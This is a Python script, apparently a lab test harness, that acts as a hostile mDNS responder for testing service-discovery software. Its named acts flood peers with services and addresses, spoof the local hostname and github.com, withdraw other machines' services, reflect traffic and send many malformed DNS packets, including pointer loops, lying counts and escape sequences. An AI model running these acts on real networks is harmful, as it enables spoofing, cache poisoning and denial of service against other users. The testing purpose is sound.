#!/usr/bin/env python3
"""Attacks a network: an mDNS responder that violates the protocol, for the lab.

It sends packets, but neither queries nor answers questions. When it has sent its act once, it
prints "ready" on standard output; then it continues until TERM. Each act is
one attack, see --help.
"""

import argparse
import itertools
import os
import select
import signal
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from load import A, AAAA, GROUPS, PORT, PTR, SHARED, SRV, TXT, UNIQUE, Packets, Record

CNAME = 5
LONG_LIFE, HOST_LIFE = 4500, 120  # seconds, RFC 6762 section 10
TYPES_NAME = "_services._dns-sd._udp.local"


class Wire:
    """Sends packets over both families at a limited rate."""

    def __init__(self, interface, pace):
        index = socket.if_nametoindex(interface)
        self.pace, self.due, self.interface = pace, time.monotonic(), interface
        self.sockets = {}
        for family, group in GROUPS.items():
            opened = socket.socket(family, socket.SOCK_DGRAM)
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            if family == socket.AF_INET:
                opened.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, struct.pack("8xi", index))
                opened.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
                opened.bind(("", PORT))
            else:
                opened.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                opened.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
                opened.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
                opened.bind(("", PORT, 0, 0))
            self.sockets[opened] = (group, PORT)

    def send(self, packet):
        """Sends a packet over both families, when the rate permits it."""
        rest = self.due - time.monotonic()
        if rest > 0:
            select.select([], [], [], rest)
        self.due = max(self.due, time.monotonic() - 0.1) + 1 / self.pace
        for opened, group in self.sockets.items():
            opened.sendto(packet, group)

    def tell(self, records):
        for packet in Packets(records).done:
            self.send(packet)


def name(label, kind="_http._tcp"):
    return f"{label}.{kind}.local"


def service(label, host="stranger.local", kind="_http._tcp", text=b"\x03a=1", life=LONG_LIFE):
    """The three records of a service."""
    yield Record(f"{kind}.local", PTR, SHARED, life, name=name(label, kind))
    yield Record(name(label, kind), SRV, UNIQUE, HOST_LIFE, struct.pack(">HHH", 0, 0, 80), host)
    yield Record(name(label, kind), TXT, UNIQUE, LONG_LIFE, text)


def address(host="stranger.local", number=0):
    data = socket.inet_aton("10.99.0.0")[:2] + struct.pack(">H", 0x9000 + number)
    return Record(host, A, UNIQUE, HOST_LIFE, data)


def raw(record, flags=0x8400, counts=(0, 1, 0, 0)):
    """A packet with the bytes of some records, valid or not."""
    return struct.pack(">HHHHHH", 0, flags, *counts) + record


def labels(*parts):
    """A name of these labels as bytes, without the terminator."""
    return b"".join(bytes([len(part)]) + part for part in parts)


def fixed(kind, life, data, flags=UNIQUE, size=None):
    return struct.pack(">HHIH", kind, flags, life, len(data) if size is None else size) + data


# ---- the acts: each yields when it has sent all its packets once, and repeats when resumed

def names(wire, count):
    """More names than a list keeps."""
    wire.tell(itertools.chain([address()], *(service(f"name-{each:05}") for each in range(count))))
    yield


def silent(wire, count):
    """Names that no host resolves."""
    wire.tell(Record("_http._tcp.local", PTR, SHARED, LONG_LIFE, name=name(f"name-{each:05}")) for each in range(count))
    yield


def hosts(wire, count):
    """A host for each of many names."""
    for each in range(count):
        host = f"stranger-{each:05}.local"
        wire.tell([*service(f"name-{each:05}", host), address(host, each)])
    yield


def renames(wire, count):
    """One service that changes its name COUNT times a second."""
    wire.pace = count
    wire.tell([address()])
    for each in itertools.count():
        if each % count == 0:
            yield
        before = Record("_http._tcp.local", PTR, SHARED, 0, name=name(f"name-{each - 1:08}"))
        wire.tell([before, *service(f"name-{each:08}")])


def identities(wire, count):
    """A host that claims another identifier under another name, COUNT times a second."""
    wire.pace = count
    wire.tell([address()])
    for each in itertools.count():
        if each % count == 0:
            yield
        text = b"id=%08x-0000-5000-8000-000000000000" % each
        before = Record("_peerlist._tcp.local", PTR, SHARED, 0, name=name(f"name-{each - 1:08}", "_peerlist._tcp"))
        wire.tell([before, *service(f"name-{each:08}", kind="_peerlist._tcp", text=bytes([len(text)]) + text)])


def claims(wire, count):
    """Many hosts that all claim one identifier."""
    text = b"id=01234567-0000-5000-8000-000000000000"
    for each in range(count):
        host = f"stranger-{each:05}.local"
        wire.tell([*service(f"name-{each:05}", host, "_peerlist._tcp", bytes([len(text)]) + text),
                   address(host, each)])
    yield


def namesake(wire, count):
    """The host name of this machine with another address, COUNT times a second, as another responder on it has."""
    wire.pace = count
    while True:
        wire.tell([address(f"{socket.gethostname()}.local")])
        yield


def elsewhere(wire, count):
    """A service on github.com, and one in the domain com, both at an address of the link, COUNT times a second."""
    front, abroad = "Front Desk._ssh._tcp.local", "abroad._ssh._tcp.com"
    kind = "_ssh._tcp.local"
    wire.pace = count
    while True:
        wire.tell([
            Record(TYPES_NAME, PTR, SHARED, LONG_LIFE, name=kind), address("github.com", 66),
            *(Record(kind, PTR, SHARED, LONG_LIFE, name=each) for each in (front, abroad)),
            *(Record(each, SRV, UNIQUE, HOST_LIFE, struct.pack(">HHH", 0, 0, 22), "github.com") for each in (front, abroad)),
            *(Record(each, TXT, UNIQUE, LONG_LIFE, b"\0") for each in (front, abroad))])
        yield


def text(wire, count):
    """TXT records of COUNT bytes, of the maximum size of Avahi's packets, and without content."""
    def strings(size):
        return b"".join(b"\xffk%03d=" % each + b"v" * 250 for each in range(size // 256))
    wire.tell([address(), *service("small")])
    for label, size in (("large", 8704), ("largest", count), ("empty", 0)):
        packets = Packets(service(label, text=strings(size))).done
        for packet in packets:
            if len(packet) <= 65507:
                wire.send(packet)
    yield


def texts(wire, count):
    """Many services, each with a TXT record of the maximum size of Avahi's packets."""
    large = b"".join(b"\xffk%03d=" % each + b"v" * 250 for each in range(34))
    tell_texts(wire, count, large)
    yield


def crumbs(wire, count):
    """The same, but each record is thousands of attributes of two letters and no value."""
    letters = b"abcdefghijklmnopqrstuvwxyz0123456789-_.:,;!?<>()[]{}"
    pairs = itertools.product(letters, repeat=2)
    tell_texts(wire, count, b"".join(b"\2" + bytes(pair) for pair in pairs))
    yield


def tell_texts(wire, count, text):
    """Services of a few hosts, and a packet for the TXT record of each."""
    for each in range(count):
        host = f"stranger-{each % 10}.local"
        wire.tell([address(host, each % 10)])
        for packet in Packets(service(f"text-{each:05}", host, text=text)).done:
            wire.send(packet)


def addresses(wire, count):
    """One host with COUNT addresses."""
    told = [Record("stranger.local", A, SHARED, HOST_LIFE, struct.pack(">BBH", 10, 98, each)) for each in range(count)]
    six = socket.inet_pton(socket.AF_INET6, "fd98::")[:14]
    told += [Record("stranger.local", AAAA, SHARED, HOST_LIFE, six + struct.pack(">H", each)) for each in range(count)]
    wire.tell([*service("many-homes"), *told])
    yield


def types(wire, count):
    """A new type in each packet, each with a service; repeated for slow receivers."""
    while True:
        for each in range(count):
            kind = f"_t{each:05}._tcp"
            wire.tell([Record(TYPES_NAME, PTR, SHARED, LONG_LIFE, name=f"{kind}.local"), address(),
                       *service("only", kind=kind)])
        yield
        wire.pace = min(wire.pace, 25)


def unlisted(wire, count):
    """A new type in each packet, which nobody lists and of which there is no service; over and over, more slowly."""
    while True:
        for each in range(count):
            kind = f"_u{each:05}._tcp"
            wire.tell([list(service("gone", kind=kind))[1]])
        yield
        wire.pace = min(wire.pace, 200)


def domains(wire, count):
    """Types and services, each in its own domain."""
    for each in range(count):
        domain = f"e{each:05}"
        wire.tell([Record(TYPES_NAME, PTR, SHARED, LONG_LIFE, name=f"_http._tcp.{domain}"),
                   Record("_http._tcp.local", PTR, SHARED, LONG_LIFE, name=f"web._http._tcp.{domain}")])
    yield


def revises(wire, count):
    """A service, announced three times at first, in case the list is not listening yet; at USR1 announced again, and
    COUNT ms later with another TXT record or port, in turn."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
    for edition in itertools.count(1):
        described = [*service("Web", text=b"\x03a=%d" % (edition // 2 + 1)), address()]
        port = 80 + (edition - 1) // 2
        described[1] = described[1]._replace(data=struct.pack(">HHH", 0, 0, port))
        if edition > 1:
            signal.sigwait([signal.SIGUSR1])
            wire.tell(before)
            select.select([], [], [], count / 1000)
        for repeat in range(3 if edition == 1 else 1):
            select.select([], [], [], repeat)
            wire.tell(described)
        before = described
        yield


def takes_along(wire, count):
    """A host that changed from moved.local to moved-2.local, while both names have its address in caches."""
    former = address("moved.local", count)._replace(flags=SHARED)
    wire.tell([former, *service("Web", "moved-2.local"), address("moved-2.local", count)])
    yield


def careless(wire, count):
    """A device that speaks for itself, at 10.99.0.COUNT, without cache-flush, for 10 s, again and again."""
    host = Record("careless.local", A, SHARED, 10, socket.inet_aton(f"10.99.0.{count}"))
    records = [record._replace(flags=SHARED, ttl=10) for record in service("Web", "careless.local")]
    while True:
        wire.tell([host, *records])
        yield
        select.select([], [], [], 0.5)


def flushes(wire, count):
    """A service whose PTR record claims with the cache-flush bit to replace all others of its type; after COUNT seconds,
    as only older records are replaced."""
    select.select([], [], [], count)
    described = [*service("flusher"), address()]
    wire.tell([described[0]._replace(flags=UNIQUE), *described[1:]])
    yield


def withdraws(wire, count):
    """Goodbyes for COUNT services of other machines, Web-1 and so on."""
    wire.tell(Record("_http._tcp.local", PTR, SHARED, 0, name=name(f"Web-{each}")) for each in range(1, count + 1))
    yield


def echoes(wire, count):
    """A reflector that sends back what it hears from others, COUNT packets of them."""
    index = socket.if_nametoindex(wire.interface)
    opened = next(each for each in wire.sockets if each.family == socket.AF_INET)
    group = struct.pack("4s4xi", socket.inet_aton(GROUPS[socket.AF_INET]), index)
    opened.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    opened.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    yield
    while count > 0:
        packet, (_, port) = opened.recvfrom(9000)
        if port == PORT and packet[2] & 0x80:
            opened.sendto(packet, (GROUPS[socket.AF_INET], PORT))
            count -= 1


def malformed(wire, count):
    """Malformed packets, repeated, together with a valid service."""
    good = labels(b"_http", b"_tcp", b"local") + b"\0"
    me = labels(b"self", b"_http", b"_tcp", b"local") + b"\0"
    loop = labels(b"cname-loop", b"local") + b"\0"
    back = labels(b"cname-back", b"local") + b"\0"
    whole = Packets([*service("cut")]).done[0]
    packets = [
        *(whole[:size] for size in range(0, len(whole), 7)),  # truncated
        raw(b"\xc0\x0c" + fixed(PTR, 120, b"\xc0\x0c")),  # a name that is its own end
        raw(good + fixed(PTR, 120, b"\xc0\x2c\xc0\x2a")),  # two that are each other's
        raw(good + fixed(PTR, 120, b"\xff\xff")),  # a pointer out of the packet
        raw(good + fixed(PTR, 120, labels(b"forward") + b"\xc0\x40")),  # and one forward
        raw(good + fixed(PTR, 120, b"\x3fshort\0")),  # a label that ends behind the packet
        raw(good + fixed(PTR, 120, b"\x80reserved\0")),
        raw(labels(*[b"x" * 63] * 8) + b"\0" + fixed(PTR, 120, good)),  # a name of 512 bytes
        raw(good + fixed(PTR, 120, labels(*[b"y"] * 200) + b"\0")),
        raw(good + fixed(PTR, 120, labels(b"nul\0nul", b"_http", b"_tcp", b"local") + b"\0")),
        raw(good + fixed(PTR, 120, labels(b"\x1b[31mred\n;", b"_http", b"_tcp", b"local") + b"\0")),
        raw(good + fixed(PTR, 120, labels(b"\xff\xfe\xc0", b"_http", b"_tcp", b"local") + b"\0")),
        raw(good + fixed(PTR, 120, b"\0")),  # the root for a service
        raw(good + fixed(PTR, 120, good)),  # the type itself for a service
        raw(good + fixed(PTR, 120, labels(b"elsewhere", b"_ssh", b"_tcp", b"example") + b"\0")),
        raw(me + fixed(SRV, 120, struct.pack(">HHH", 0, 0, 80) + me)),  # a host that is the service
        raw(good + fixed(PTR, 120, me)),
        raw(me + fixed(TXT, 120, b"\xffshort")),  # a string longer than its record
        raw(me + fixed(SRV, 120, b"\0\0")),  # a record too short for its kind
        raw(loop + fixed(CNAME, 120, back)), raw(back + fixed(CNAME, 120, loop)),
        raw(labels(b"alone", b"local") + b"\0" + fixed(CNAME, 120, labels(b"alone", b"local") + b"\0")),
        raw(good + fixed(PTR, 120, me, size=65535)),  # lengths and counts that lie
        raw(good + fixed(PTR, 120, me), counts=(0, 65535, 65535, 65535)),
        raw(good + fixed(PTR, 120, me), counts=(65535, 1, 0, 0)),
        raw(good + fixed(PTR, 0, labels(b"never", b"_http", b"_tcp", b"local") + b"\0", flags=SHARED)),
        raw(good + fixed(PTR, 0x80000000, labels(b"forever", b"_http", b"_tcp", b"local") + b"\0", flags=SHARED)),
        raw(good + fixed(PTR, 0xFFFFFFFF, labels(b"longer", b"_http", b"_tcp", b"local") + b"\0", flags=SHARED)),
        raw(b"", flags=0xFFFF, counts=(65535,) * 4),
        b"", b"\0", os.urandom(200), os.urandom(1400), bytes(9000),
    ]
    for _ in range(count):
        for packet in packets:
            wire.send(packet)
    wire.tell([address(), *service("well"), *service("loops", "cname-loop.local")])
    yield


ACTS = {act.__name__: act for act in (
    names, silent, hosts, renames, identities, claims, namesake, elsewhere, text, texts, crumbs, addresses, types, unlisted,
    domains, revises, takes_along, careless, flushes, withdraws, echoes, malformed)}


def main():
    acts = "\n".join(f"  {each:12}{act.__doc__}" for each, act in ACTS.items())
    parser = argparse.ArgumentParser(
        description=__doc__, epilog=f"acts:\n{acts}", formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("act", choices=ACTS, metavar="ACT")
    parser.add_argument("count", type=int, metavar="COUNT")
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--pace", type=float, default=1000, metavar="N", help="packets in a second")
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    wire = Wire(options.interface, options.pace)
    wire.tell(Record(TYPES_NAME, PTR, SHARED, LONG_LIFE, name=f"{kind}._tcp.local") for kind in ("_http", "_peerlist"))
    for told, _ in enumerate(ACTS[options.act](wire, options.count)):
        if told == 0:
            print("ready", flush=True)
    signal.pause()


main()
